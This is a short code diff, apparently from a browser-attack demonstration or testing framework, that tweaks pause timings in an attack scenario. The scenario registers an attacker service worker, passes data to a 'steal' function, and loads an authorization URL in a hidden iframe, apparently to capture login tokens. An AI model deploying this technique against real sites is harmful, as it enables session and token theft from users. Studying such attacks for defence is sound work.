@@ -15,11 +15,11 @@ export default attack({
         .register(it.scriptUrl("/assets/worker-of-the-attacker.js"), { scope })
         .catch((error: unknown) => it.steal(String(error)));
     }
-    await it.pause(500);
+    await it.pause(300);
     const frame = document.createElement("iframe");
     frame.src = it.authorizationUrl();
     document.body.append(frame);
-    await it.pause(3_000);
+    await it.pause(2_500);
   },
   async play(stage) {
     await stage.playOwnWorker("/assets/worker-of-the-attacker.js");
